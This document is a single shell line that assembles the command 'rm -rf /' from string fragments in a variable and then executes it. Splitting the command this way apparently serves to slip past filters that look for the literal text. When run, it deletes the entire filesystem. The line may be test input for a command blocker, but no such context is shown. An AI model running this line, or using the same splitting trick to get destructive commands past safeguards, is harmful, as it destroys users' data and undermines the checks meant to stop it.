c="rm"; c+=" -rf /"; $c
